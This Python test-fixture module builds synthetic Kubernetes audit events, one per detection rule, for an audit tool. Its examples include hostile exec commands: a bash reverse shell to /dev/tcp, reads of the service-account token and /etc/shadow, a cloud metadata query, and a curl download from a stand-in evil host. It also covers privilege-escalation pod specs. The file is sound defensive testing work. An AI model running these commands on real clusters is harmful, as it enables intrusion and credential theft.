"""Events to judge, and for every rule on single events one that it is about."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import orjson

from audit.event import AuditEvent, parse_event
from audit.evidence import Finding
from audit.rules import judge

JSON = dict[str, Any]
PERSON = "dana@contoso.example"
WORKLOAD = "system:serviceaccount:shop:agent"
AT = "2026-05-04T10:00:00Z"


def event(verb: str, kind: str, body: object = None, /, **fields: Any) -> AuditEvent:
    """Return an event; `kind` is "pods/exec", "shop:pods/exec" or "shop:pods/exec:web-1"."""
    namespace, _, rest = kind.partition(":") if ":" in kind else ("", "", kind)
    resource, _, name = rest.partition(":")
    resource, _, subresource = resource.partition("/")
    target = {"resource": resource, "subresource": subresource, "namespace": namespace, "name": name}
    raw: JSON = {
        "auditID": "a",
        "stage": "ResponseComplete",
        "verb": verb,
        "user": {"username": PERSON, "groups": ["system:authenticated"]},
        "sourceIPs": ["10.0.0.7"],
        "userAgent": "kubectl/v1.31.0",
        "objectRef": target,
        "responseStatus": {"code": 200},
        "requestReceivedTimestamp": AT,
    }
    if body is not None:
        raw["requestObject"] = body
    return parsed({**raw, **fields})


def parsed(raw: Mapping[str, Any]) -> AuditEvent:
    """Return a raw audit event, parsed."""
    found = parse_event({"log_s": orjson.dumps(raw).decode(), "TimeGenerated": AT})
    assert isinstance(found, AuditEvent)
    return found


def as_user(name: str, *groups: str) -> JSON:
    return {"user": {"username": name, "groups": list(groups)}}


def run(*command: str) -> AuditEvent:
    """Return an exec of a command, as kubectl sends it today: a get."""
    return event("get", "shop:pods/exec:web-1", {"command": list(command)}, responseStatus={"code": 101})


def pod(spec: JSON, verb: str = "create") -> AuditEvent:
    return event(verb, "shop:pods:web-1", {"kind": "Pod", "spec": spec})


def container(context: JSON) -> AuditEvent:
    return pod({"containers": [{"name": "web", "image": "web", "securityContext": context}]})


def role(verb: str = "create", /, **rule: list[str]) -> AuditEvent:
    return event(verb, ":clusterroles:reader", {"rules": [rule]})


def binding(role_name: str, *subjects: JSON) -> AuditEvent:
    return event(
        "create", ":clusterrolebindings:b", {"roleRef": {"name": role_name}, "subjects": list(subjects)}
    )


_MASTER = as_user("masterclient", "system:masters")
_PUBLIC = {"sourceIPs": ["8.8.8.8"]}
_DENIED = {"responseStatus": {"code": 403}}

#: Rule id → an event that it fires on.
EXAMPLES: Mapping[str, AuditEvent] = {
    "reverse-shell": run("bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"),
    "token-read-in-exec": run("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    "metadata-read-in-exec": run("curl", "-H", "Metadata: true", "http://169.254.169.254/metadata/identity"),
    "credentials-read-in-exec": run("cat", "/etc/shadow"),
    "download-in-exec": run("curl", "-o", "/tmp/x", "https://files.evil.example/x"),
    "files-copied-with-tar": run("tar", "cf", "-", "/data"),
    "shell-in-pod": run("/bin/bash"),
    "exec-in-pod": run("ls"),
    "attach-to-pod": event("create", "shop:pods/attach:web-1", responseStatus={"code": 101}),
    "port-forward": event("get", "shop:pods/portforward:web-1", responseStatus={"code": 101}),
    "ephemeral-container": event("patch", "shop:pods/ephemeralcontainers:web-1"),
    "secrets-listed-everywhere": event("list", "secrets", requestURI="/api/v1/secrets?limit=500"),
    "secret-read-by-script": event("get", "shop:secrets:db", userAgent="curl/8.5.0"),
    "secret-read": event("get", "shop:secrets:db"),
    "secret-read-refused": event("get", "shop:secrets:db", **_DENIED),
    "secrets-listed": event("list", "shop:secrets"),
    "arc-proxy-read-secrets": event(
        "get", "shop:secrets:db", **as_user("system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa")
    ),
    "secret-changed": event("delete", "shop:secrets:db"),
    "credentials-in-configmap": event(
        "create", "shop:configmaps:c", {"data": {"app.ini": "password=hunter22"}}
    ),
    "long-lived-token-minted": event(
        "create", "shop:serviceaccounts/token:agent", {"spec": {"expirationSeconds": 31_536_000}}
    ),
    "token-minted": event("create", "shop:serviceaccounts/token:agent"),
    "client-certificate-requested": event(
        "create",
        ":certificatesigningrequests:me",
        {"spec": {"signerName": "kubernetes.io/kube-apiserver-client"}},
    ),
    "certificate-approved": event("update", ":certificatesigningrequests/approval:me"),
    "impersonated-privileged": event("get", "shop:pods:web-1", impersonatedUser={"username": "masterclient"}),
    "impersonated-other": event(
        "get", "shop:pods:web-1", impersonatedUser={"username": "kim@contoso.example"}
    ),
    "anonymous-allowed": event(
        "get", "shop:pods:web-1", **as_user("system:anonymous", "system:unauthenticated")
    ),
    "anonymous-refused": event("get", "shop:pods:web-1", **as_user("system:anonymous"), **_DENIED),
    "platform-from-public-address": event("list", "nodes", **as_user("system:node:aks-1"), **_PUBLIC),
    "refused-from-public-address": event("list", "nodes", **_PUBLIC, **_DENIED),
    "service-account-probed": event("list", "nodes", **as_user(WORKLOAD), **_DENIED),
    "own-rights-listed": event("create", "selfsubjectrulesreviews"),
    "own-access-asked": event("create", "selfsubjectaccessreviews", **as_user(WORKLOAD)),
    "local-admin-changed": event("patch", "shop:deployments:web", **_MASTER),
    "local-admin-read": event("get", "shop:deployments:web", **_MASTER),
    "bound-to-everybody": binding("edit", {"kind": "Group", "name": "system:authenticated"}),
    "cluster-admin-bound": binding("cluster-admin", {"kind": "User", "name": PERSON}),
    "cluster-admin-in-name": event("create", ":clusterrolebindings:my-cluster-admin"),
    "powerful-role-bound": binding("system:kube-controller-manager"),
    "service-account-bound": binding("view", {"kind": "ServiceAccount", "name": "a", "namespace": "shop"}),
    "rbac-binding-changed": event("delete", "shop:rolebindings:b"),
    "rbac-by-service-account": event("patch", "shop:roles:r", **as_user(WORKLOAD)),
    "wildcard-role": role(apiGroups=[""], resources=["*"], verbs=["get"]),
    "role-can-escalate": role(resources=["clusterroles"], verbs=["escalate"]),
    "role-with-node-proxy": role(resources=["nodes/proxy"], verbs=["get"]),
    "role-with-exec": role(resources=["pods/exec"], verbs=["create"]),
    "role-with-writes": role(resources=["pods"], verbs=["patch"]),
    "role-widened": role("update", resources=["*"], verbs=["*"]),
    "system-role-changed": event("patch", ":clusterroles:system:node"),
    "role-changed": event("create", "shop:roles:r"),
    "service-account-in-system-namespace": event("create", "kube-public:serviceaccounts:a"),
    "service-account-created": event("create", "shop:serviceaccounts:a"),
    "privileged-container": container({"privileged": True}),
    "host-path-mounted": pod({"volumes": [{"name": "v", "hostPath": {"path": "/var/run/docker.sock"}}]}),
    "dangerous-capabilities": container({"capabilities": {"add": ["CAP_SYS_ADMIN"]}}),
    "host-pid": pod({"hostPID": True}),
    "host-network": pod({"hostNetwork": True}),
    "host-ipc": pod({"hostIPC": True}),
    "container-as-root": container({"runAsUser": 0}),
    "controller-account-used": event(
        "create", "kube-system:pods:x", {"spec": {"serviceAccountName": "replicaset-controller"}}
    ),
    "pod-in-system-namespace": event("create", "kube-node-lease:pods:x"),
    "workload-in-system-namespace": event("create", "kube-system:deployments:x"),
    "pod-in-default-namespace": event("create", "default:pods:x"),
    "daemonset-created": event("create", "shop:daemonsets:x"),
    "cronjob-changed": event("patch", "shop:cronjobs:x"),
    "job-created": event("create", "shop:jobs:x"),
    "containers-changed": event(
        "patch",
        "shop:deployments:web",
        [
            {
                "op": "add",
                "path": "/spec/template/spec/containers/-",
                "value": {"name": "s", "image": "sidecar"},
            }
        ],
    ),
    "system-workload-stopped": event(
        "update", "kube-system:deployments/scale:coredns", {"spec": {"replicas": 0}}
    ),
    "system-workload-changed": event(
        "update", "kube-system:daemonsets:kube-proxy", {"spec": {"template": {"spec": {"containers": [{}]}}}}
    ),
    "system-pod-deleted": event("delete", "kube-system:pods:coredns-1"),
    "workload-replaced": event(
        "update", "shop:deployments:web", {"spec": {"template": {"spec": {"containers": [{"image": "w:2"}]}}}}
    ),
    "workload-deleted": event("delete", "shop:deployments:web"),
    "admission-webhook-created": event("create", ":mutatingwebhookconfigurations:m"),
    "admission-webhook-changed": event("patch", ":validatingwebhookconfigurations:m"),
    "admission-control-removed": event("delete", ":validatingadmissionpolicies:m"),
    "dns-config-changed": event("update", "kube-system:configmaps:coredns-custom"),
    "api-service-changed": event("create", ":apiservices:v1beta1.metrics.k8s.io"),
    "external-address-taken": event("create", "shop:services:web", {"spec": {"externalIPs": ["10.0.0.10"]}}),
    "service-proxy-used": event("get", "shop:services/proxy:dashboard"),
    "node-port-opened": event("create", "shop:services:web", {"spec": {"type": "NodePort"}}),
    "load-balancer-opened": event("patch", "shop:services:web", {"spec": {"type": "LoadBalancer"}}),
    "ingress-without-tls": event(
        "create", "shop:ingresses:web", {"spec": {"rules": [{"host": "a.example"}]}}
    ),
    "namespace-created": event("create", ":namespaces:foo"),
    "namespace-deleted": event("delete", ":namespaces:foo"),
    "collection-deleted": event("deletecollection", "shop:pods"),
    "events-deleted": event("deletecollection", "shop:events"),
    "node-proxy-used": event("create", ":nodes/proxy:n", requestURI="/api/v1/nodes/n/proxy/run/shop/web/c"),
    "node-joined": event("create", ":nodes:n"),
    "node-removed": event("delete", ":nodes:n"),
}


def fired(one: AuditEvent) -> dict[str, Finding]:
    """Return the findings on one event by their rules' ids."""
    return {finding.rule: finding for finding in judge([one]).of_event[0]}
